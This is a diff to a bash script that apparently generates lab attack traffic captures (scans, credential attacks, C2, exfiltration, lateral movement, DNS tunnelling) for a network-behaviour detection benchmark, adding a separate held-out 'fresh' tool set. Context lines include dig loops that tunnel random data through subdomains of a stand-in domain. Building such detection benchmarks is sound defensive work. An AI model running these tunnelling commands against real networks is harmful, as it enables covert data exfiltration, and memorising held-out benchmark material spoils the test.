@@ -10,9 +10,12 @@
 #
 # Usage: bash bench/behavior/gen-attacks.sh [--out DIR] [--only fam1,fam2] [--keep]
 #   families: scan credential c2 exfil lateral dnstunnel   (default: all)
+#   fresh: the "fresh tools" set (tools and techniques the model was never tuned on; ids fr-*, families
+#   scan credential c2 dnstunnel exfil lateral dos), only when asked for by name; default --out then
+#   /work/behavior-bench-fresh, so it never lands in the tuning benchmark's index.
 set -euo pipefail
 
-OUT=/work/behavior-bench
+OUT=""
 ONLY=""
 while [ $# -gt 0 ]; do
   case "$1" in
@@ -21,6 +24,11 @@ while [ $# -gt 0 ]; do
     *) echo "gen-attacks: unknown option $1" >&2; exit 2 ;;
   esac
 done
+if [[ ",$ONLY," == *",fresh,"* ]]; then
+  [ "$ONLY" = fresh ] || { echo "gen-attacks: --only fresh cannot be combined with other families" >&2; exit 2; }
+  OUT="${OUT:-/work/behavior-bench-fresh}"
+fi
+OUT="${OUT:-/work/behavior-bench}"
 HERE="$(cd "$(dirname "$0")" && pwd)"
 RAW="$OUT/attacks"
 W="$OUT/.gen"
@@ -173,6 +181,7 @@ sleep 2
 # ---------- capture helper ----------
 INDEX="$RAW/index.jsonl"
 want() { [ -z "$ONLY" ] || [[ ",$ONLY," == *",$1,"* ]]; }
+want_fresh() { [ "$ONLY" = fresh ]; }
 # cap ID FAMILY TOOL ROLES PEER HELDOUT TIMEOUT_S CMD...
 #   ROLES: which endpoint(s) the device may play when injected: attacker | victim | attacker,victim
 #   PEER: lan | public  (what the other endpoint becomes when injected)
@@ -191,7 +200,7 @@ cap() {
   kill "$tp"; wait "$tp" 2>/dev/null || true
   local pk; pk=$(capinfos -c -M "$f" 2>/dev/null | awk -F: '/Number of packets/{gsub(/ /,"",$2);print $2}')
   local dur; dur=$(echo "$(date +%s.%N) - $t0" | bc)
-  echo "{\"id\":\"$id\",\"file\":\"attacks/$id.pcap\",\"family\":\"$fam\",\"tool\":\"$tool\",\"roles\":\"$roles\",\"peer\":\"$peer\",\"heldout\":$held,\"attacker\":{\"ip\":\"$ATT_IP\",\"mac\":\"$ATT_MAC\"},\"victim\":{\"ip\":\"${CAP_VIC_IP:-$VIC_IP}\",\"mac\":\"${CAP_VIC_MAC:-$VIC_MAC}\"},\"net\":\"$NET.0/24\",\"rc\":$rc,\"packets\":${pk:-0},\"wallS\":$dur,\"cmd\":$(printf '%s' "$*" | $PY -c 'import json,sys;print(json.dumps(sys.stdin.read()))')}" >>"$INDEX.tmp"
+  echo "{\"id\":\"$id\",\"file\":\"attacks/$id.pcap\",\"family\":\"$fam\",\"tool\":\"$tool\",\"roles\":\"$roles\",\"peer\":\"$peer\",\"heldout\":$held,\"attacker\":{\"ip\":\"$ATT_IP\",\"mac\":\"$ATT_MAC\"},\"victim\":{\"ip\":\"${CAP_VIC_IP:-$VIC_IP}\",\"mac\":\"${CAP_VIC_MAC:-$VIC_MAC}\"},\"net\":\"$NET.0/24\"${CAP_WAN:+,\"wan\":\"$CAP_WAN\"},\"rc\":$rc,\"packets\":${pk:-0},\"wallS\":$dur,\"cmd\":$(printf '%s' "$*" | $PY -c 'import json,sys;print(json.dumps(sys.stdin.read()))')}" >>"$INDEX.tmp"
   echo "gen-attacks: $id ($fam/$tool) rc=$rc packets=${pk:-0} ${dur}s" >&2
 }
 
@@ -285,6 +294,10 @@ if want dnstunnel; then
     "for i in \$(seq 1 150); do dig +short +tries=1 +time=1 @$VIC_IP TXT \$(head -c 30 /dev/urandom | base32 -w0 | tr -d = | tr A-Z a-z).\$i.t.cdn-update.example.test >/dev/null; sleep 0.1; done"
   cap dns-a-hexchunks dnstunnel dig-a attacker public false 120 bash -c \
     "for i in \$(seq 1 200); do dig +short +tries=1 +time=1 @$VIC_IP A \$(head -c 28 /dev/urandom | od -An -tx1 | tr -d ' \n').\$(head -c 20 /dev/urandom | od -An -tx1 | tr -d ' \n').cdn-update.example.test >/dev/null; sleep 0.05; done"
+fi
+
+if want_fresh; then
+  source "$HERE/gen-fresh.sh"
 fi
 
 # Merge: entries regenerated in this run replace older ones with the same id.
